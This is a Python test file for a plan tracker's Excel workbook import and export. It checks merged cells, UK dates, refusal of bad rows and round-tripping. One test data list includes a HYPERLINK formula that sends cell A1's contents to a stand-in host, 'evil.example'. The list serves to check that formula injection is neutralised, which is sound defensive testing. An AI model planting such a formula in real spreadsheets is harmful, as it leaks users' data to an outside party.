"""Excel workbooks in and out: a tracker as people keep it in Excel imports unchanged, is refused
whole by row like a CSV, and a plan exported as a workbook is one people would keep and that
re-imports as no change at all. No cell is ever written as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles.numbers import is_date_format
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import func, select

from bot.cli import main
from bot.plan import audit
from bot.plan.errors import PlanError
from bot.plan.importer import EXPORT_HEADINGS, ImportReport, export_plan, import_plan
from bot.plan.queries import get_action, get_plan
from bot.plan.rules import ActionStatus
from bot.plan.sample import sample_csv
from bot.plan.services import Actor, add_note, complete, revise_due
from bot.plan.spreadsheet import SheetPlan, SheetRefused, read_plan_csv
from bot.plan.workbook import AUDIT_HEADINGS, AUDIT_SHEET, PLAN_SHEET, RAG_FILLS, export_workbook, read_plan_xlsx
from storage.models import Action, ActionEvent, Plan
from tests.helpers.plans import ALICE, TEAM, TODAY, big_plan_csv, load

TITLE = "Protection peer review: action plan (September 2021)"
cli = Actor.cli("test")
HEADINGS = ("Recommendation", "Action(s)", "Owner(s)", "Target date", "Status", "Revised date", "Comments")
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2 weeks slip", "@SUM(A1:A9)",
            "=1", "#N/A", "'=already quoted", "'Tis an apostrophe")


def _text(sheet: Worksheet, row: int, column: int, value: str) -> None:
    """A cell typed as text, as Excel keeps a cell someone typed: never a formula."""
    cell = sheet.cell(row=row, column=column, value=value)
    cell.data_type = "s"


def _bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def tracker(bad: bool = False) -> bytes:
    """A tracker as kept in Excel: a merged title row above the headings, recommendation 1 merged
    over its three actions' rows (and one status over two), real Excel dates beside UK date strings,
    a second sheet of notes.
    With `bad`, row 3 has a date that does not exist and row 5 no owner."""
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.title = "Tracker"
    sheet["A1"] = TITLE
    sheet.merge_cells("A1:G1")
    for column, heading in enumerate(HEADINGS, start=1):
        sheet.cell(row=2, column=column, value=heading)
    rows = [
        ("1) Provide further evidence of how inspections are targeted", "Publish the inspection methodology",
         "Head of Protection", datetime(2021, 7, 31), "Done", None, None),
        (None, "Review the risk model", "Protection Manager / Corporate Comms", date(2021, 9, 30), "On track", None,
         None),
        (None, "Train the inspectors in the model", "Protection Manager", "31/12/2021", None, "31/03/2022",
         "Trainer not available until the new year"),
        ("2) Increase the number of competent inspectors", "Recruit four inspectors", "Head of Protection",
         "31-12-21", "", None, None),
    ]
    for row_number, row in enumerate(rows, start=3):
        for column, value in enumerate(row, start=1):
            if value is not None:
                sheet.cell(row=row_number, column=column, value=value)
    sheet.cell(row=3, column=4).number_format = "dd/mm/yyyy"
    sheet.merge_cells("A3:A5")
    sheet.merge_cells("E4:E5")  # one status for two actions
    if bad:
        sheet.cell(row=3, column=4, value="31/02/2021")
        sheet.cell(row=5, column=3).value = None
    notes = book.create_sheet("Notes")
    notes["A1"] = "Updated monthly by the Protection team."
    return _bytes(book)


def _import(sessions, now, sheet: SheetPlan, key: str = "ppr") -> ImportReport:
    with sessions.begin() as session:
        return import_plan(session, sheet, key=key, actor=Actor.cli("test"), now=now, title="Peer review")


def _counts(sessions) -> tuple[int, int, int]:
    with sessions.read() as session:
        return tuple(session.scalar(select(func.count()).select_from(table)) or 0  # type: ignore[return-value]
                     for table in (Plan, Action, ActionEvent))


def _export_xlsx(sessions, key: str = "ppr", today: date = TODAY) -> bytes:
    with sessions.read() as session:
        return export_workbook(session, key, today)


def _export_csv(sessions, key: str = "ppr", today: date = TODAY) -> str:
    with sessions.read() as session:
        return export_plan(session, key, today)


def _values(data: bytes, title: str = PLAN_SHEET) -> list[tuple[object, ...]]:
    sheet = load_workbook(io.BytesIO(data))[title]
    return list(sheet.iter_rows(values_only=True))


def test_a_tracker_with_a_title_row_merged_recommendations_and_excel_dates_imports_unchanged():
    sheet = read_plan_xlsx(tracker())
    assert sheet.recommendations == {1: "Provide further evidence of how inspections are targeted",
                                     2: "Increase the number of competent inspectors"}
    actions = {action.ref: action for action in sheet.actions}
    assert list(actions) == ["1.1", "1.2", "1.3", "2.1"]
    # A merged cell gives each of the rows it spans its value: recommendation 1, and "On track".
    assert [actions[ref].recommendation for ref in ("1.1", "1.2", "1.3")] == [1, 1, 1]
    assert actions["1.3"].typed_rag is not None and actions["1.3"].typed_rag.word == "On track"
    # Rows are numbered as Excel shows them: the title is row 1, the headings row 2.
    assert [action.row for action in sheet.actions] == [3, 4, 5, 6]
    # A real Excel date with a time, a real date, and UK date strings, all read day first.
    assert [actions[ref].original_due for ref in actions] == [
        date(2021, 7, 31), date(2021, 9, 30), date(2021, 12, 31), date(2021, 12, 31)]
    assert actions["1.3"].revised_due == date(2022, 3, 31)
    assert actions["1.3"].revision_reason == "Trainer not available until the new year"
    assert actions["1.2"].owners == ("Protection Manager", "Corporate Comms")
    assert [actions[ref].status for ref in actions] == [
        ActionStatus.COMPLETE, ActionStatus.IN_PROGRESS, ActionStatus.IN_PROGRESS, ActionStatus.NOT_STARTED]


def test_a_workbook_reads_as_the_same_plan_as_its_csv():
    csv_text = ("Recommendation,Actions,Owner,Delivery Date,Status\n"
                "1) Provide further evidence,Publish the methodology,Head of Protection,31/07/2021,Done\n"
                ",Review the risk model,Protection Manager,30/09/2021,Behind\n")
    book = Workbook()
    sheet = book.active
    for row in csv.reader(io.StringIO(csv_text)):
        sheet.append(row)
    from_workbook, from_csv = read_plan_xlsx(_bytes(book)), read_plan_csv(csv_text)
    assert from_workbook == from_csv


def test_a_workbook_with_bad_rows_3_and_5_is_refused_whole_by_spreadsheet_row():
    with pytest.raises(SheetRefused) as refused:
        read_plan_xlsx(tracker(bad=True))
    assert [str(problem) for problem in refused.value.problems] == [
        'row 3: Target date "31/02/2021" is not a date: February has no day 31.',
        'row 5: Owner(s) is blank; give at least one role, like "Head of Protection".',
    ]


def test_a_refused_workbook_writes_nothing_from_the_command_line(database_url, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", database_url)
    good, bad = tmp_path / "plan.xlsx", tmp_path / "plan-bad.xlsx"
    good.write_bytes(tracker())
    bad.write_bytes(tracker(bad=True))
    assert main(["import", str(bad), "--plan", "ppr"]) == 1
    err = capsys.readouterr().err
    assert "plan-bad.xlsx was not imported; nothing was written" in err
    assert "  row 3: " in err and "  row 5: " in err
    from storage.db import Sessions, make_engine  # noqa: PLC0415 - the database the command line wrote to

    sessions = Sessions(make_engine(database_url))
    try:
        assert _counts(sessions) == (0, 0, 0)
        assert main(["import", str(good), "--plan", "ppr"]) == 0
        assert "Created plan ppr: 4 actions added" in capsys.readouterr().out
        before = _counts(sessions)
        # Refused again over an existing plan: not one action or event changes.
        assert main(["import", str(bad), "--plan", "ppr"]) == 1
        assert _counts(sessions) == before
    finally:
        sessions.engine.dispose()


def test_sheet_chooses_the_sheet_and_an_unknown_sheet_names_the_ones_there(tmp_path, database_url, monkeypatch,
                                                                         capsys):
    book = load_workbook(io.BytesIO(tracker()))
    book.move_sheet("Notes", offset=-1)  # the tracker is now the second sheet
    data = _bytes(book)
    with pytest.raises(SheetRefused) as refused:
        read_plan_xlsx(data)  # the first sheet: notes, no headings
    assert "Missing headings" in str(refused.value)
    assert len(read_plan_xlsx(data, sheet="Tracker").actions) == 4
    with pytest.raises(PlanError) as error:
        read_plan_xlsx(data, sheet="Actions")
    assert error.value.message == 'The workbook has no sheet "Actions"; its sheets are: "Notes", "Tracker".'

    path = tmp_path / "tracker.xlsx"
    path.write_bytes(data)
    monkeypatch.setenv("DATABASE_URL", database_url)
    assert main(["import", str(path), "--plan", "ppr", "--sheet", "Tracker"]) == 0
    assert "4 actions added" in capsys.readouterr().out


def test_a_file_that_is_not_a_workbook_is_a_clear_refusal(tmp_path, database_url, monkeypatch, capsys):
    with pytest.raises(PlanError, match=r"^plan.xlsx is not an Excel workbook \(.xlsx\) I can open: "):
        read_plan_xlsx(b"Recommendation,Actions\n", name="plan.xlsx")
    old = tmp_path / "plan.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    monkeypatch.setenv("DATABASE_URL", database_url)
    assert main(["import", str(old), "--plan", "ppr"]) == 1
    assert "is in the old Excel format (.xls)" in capsys.readouterr().err
    csv_file = tmp_path / "plan.csv"
    csv_file.write_text("Recommendation,Actions,Owner,Delivery Date\n")
    assert main(["import", str(csv_file), "--plan", "ppr", "--sheet", "Tracker"]) == 1
    assert "--sheet goes with an Excel workbook" in capsys.readouterr().err


def test_an_exported_workbook_is_one_people_would_keep(sessions, now):
    _import(sessions, now, read_plan_csv(sample_csv(TODAY)))
    with sessions.begin() as session:
        add_note(session, get_action(session, get_plan(session, "ppr"), "1.1"), Actor.cli("test"), now,
                 "Methodology published on the intranet.\nShared with the board.")
    data = _export_xlsx(sessions)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == [PLAN_SHEET, AUDIT_SHEET]
    actions = book[PLAN_SHEET]
    assert [cell.value for cell in actions[1]] == list(EXPORT_HEADINGS)
    assert all(cell.font.bold for cell in actions[1])
    assert actions.freeze_panes == "A2"
    assert actions.auto_filter.ref == f"A1:K{actions.max_row}"
    assert actions.max_row == 11  # the ten actions of the real plan

    column = {heading: index for index, heading in enumerate(EXPORT_HEADINGS)}
    rows = list(actions.iter_rows(min_row=2))
    for row in rows:
        due = row[column["Delivery Date"]]
        assert type(due.value) is datetime and is_date_format(due.number_format)
        assert due.number_format == "dd/mm/yyyy"
        rag = row[column["RAG"]]
        assert rag.fill.fill_type == "solid" and rag.fill.start_color.rgb == "00" + RAG_FILLS[rag.value]
    assert {row[column["RAG"]].value for row in rows} == {"Red", "Amber", "Green"}
    # Each column as wide as its longest line as shown (a date as 31/07/2021), up to a limit past which text wraps.
    for index, heading in enumerate(EXPORT_HEADINGS):
        width = actions.column_dimensions[chr(ord("A") + index)].width
        shown = [f"{value:%d/%m/%Y}" if isinstance(value, datetime) else str(value or "")
                 for (value,) in actions.iter_rows(min_col=index + 1, max_col=index + 1, values_only=True)]
        longest = max(len(line) for text in shown for line in text.splitlines() or [""])
        assert width >= min(longest, 60), heading
        assert width <= max(longest, len(heading) + 2, 11) + 2, heading
    assert rows[0][column["Actions"]].alignment.wrap_text

    trail = book[AUDIT_SHEET]
    assert [cell.value for cell in trail[1]] == list(AUDIT_HEADINGS)
    assert trail.freeze_panes == "A2"
    with sessions.read() as session:
        assert trail.max_row - 1 == audit.event_count(session, get_plan(session, "ppr").id)
    last = [cell.value for cell in trail[trail.max_row]]
    assert last[3:5] == ["1.1", "note"]
    assert last[7] == "Methodology published on the intranet.\nShared with the board."
    assert isinstance(last[1], datetime) and trail.cell(row=trail.max_row, column=2).number_format == "dd/mm/yyyy hh:mm"


@pytest.mark.parametrize("plan", ["sample", "big"])
def test_export_to_a_workbook_then_import_changes_nothing(sessions, now, plan):
    text = sample_csv(TODAY) if plan == "sample" else big_plan_csv(1000)
    _import(sessions, now, read_plan_csv(text))
    with sessions.begin() as session:  # a note, a completion and a revision as Slack leaves them
        plan = get_plan(session, "ppr")
        open_actions = [a for a in session.scalars(select(Action).where(Action.plan_id == plan.id).order_by(Action.id))
                        if a.status != ActionStatus.COMPLETE]
        add_note(session, open_actions[0], cli, now, "Shared with the board; next review in March.")
        complete(session, open_actions[0], cli, now)
        revise_due(session, open_actions[1], cli, now, date(2027, 3, 31), "Waiting for the new inspection software")
    exported = _export_xlsx(sessions)
    before = _counts(sessions)

    report = _import(sessions, now, read_plan_xlsx(exported))
    assert (report.added, report.updated, report.not_in_file) == ([], [], [])
    assert _counts(sessions) == before  # not one event

    # Into a new plan, the workbook gives the same plan: the same export, cell for cell, in both formats.
    _import(sessions, now, read_plan_xlsx(exported), key="copy")
    assert _export_csv(sessions, "copy") == _export_csv(sessions, "ppr")
    assert _values(_export_xlsx(sessions, "copy")) == _values(exported)


def test_formula_looking_cells_are_text_in_both_formats_and_round_trip(sessions, now):
    load(sessions, now)
    book = Workbook()
    sheet = book.active
    sheet.append(["Recommendation", "Ref", "Actions", "Owner", "Delivery Date", "Notes"])
    for n, value in enumerate(FORMULAS, start=2):
        _text(sheet, n, 1, f"{n - 1}) Recommendation {n - 1}")
        _text(sheet, n, 2, f"-{n - 1}")
        _text(sheet, n, 3, value)
        _text(sheet, n, 4, f"@Owner {n - 1}")
        sheet.cell(row=n, column=5, value=date(2026, 12, 1))
        _text(sheet, n, 6, "+note")
    _import(sessions, now, read_plan_xlsx(_bytes(book)), key="evil")
    with sessions.read() as session:
        evil = get_plan(session, "evil")
        assert [get_action(session, evil, f"-{n}").description for n in range(1, len(FORMULAS) + 1)] == list(FORMULAS)
    with sessions.begin() as session:
        add_note(session, get_action(session, get_plan(session, "ppr"), "1.1"), Actor(ALICE, TEAM), now, FORMULAS[0])

    for key in ("ppr", "evil"):
        exported = _export_xlsx(sessions, key)
        written = load_workbook(io.BytesIO(exported))  # formulas as formulas, not their values
        cells = [cell for sheet in written.worksheets for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        formula_like = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-",
                                                                                                        "@"))]
        assert formula_like and all(cell.quotePrefix and cell.data_type == "s" for cell in formula_like)
        # CSV says the same cells with the apostrophe that keeps them text.
        assert not any(line.startswith(("=", "+", "-", "@")) for line in _export_csv(sessions, key).splitlines())

        _import(sessions, now, read_plan_xlsx(exported), key=f"{key}-copy")
        assert _values(_export_xlsx(sessions, f"{key}-copy")) == _values(exported)
        assert _export_csv(sessions, f"{key}-copy") == _export_csv(sessions, key)
    notes = [row[EXPORT_HEADINGS.index("Notes")] for row in _values(_export_xlsx(sessions, "ppr"))]
    assert FORMULAS[0] in notes


def test_export_from_the_command_line_writes_a_workbook(database_url, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", database_url)
    path = tmp_path / "tracker.xlsx"
    path.write_bytes(tracker())
    assert main(["import", str(path), "--plan", "ppr"]) == 0
    out = tmp_path / "out"
    assert main(["export", "ppr", "--format", "xlsx", "--output", str(out)]) == 0
    assert f"Wrote {out}." in capsys.readouterr().out
    assert load_workbook(io.BytesIO(out.read_bytes())).sheetnames == [PLAN_SHEET, AUDIT_SHEET]
    by_name = tmp_path / "ppr.xlsx"  # an .xlsx output is a workbook without --format
    assert main(["export", "ppr", "-o", str(by_name)]) == 0
    assert _values(by_name.read_bytes()) == _values(out.read_bytes())
    assert main(["import", str(by_name), "--plan", "ppr"]) == 0
    assert "0 actions added, 0 updated, 4 unchanged." in capsys.readouterr().out
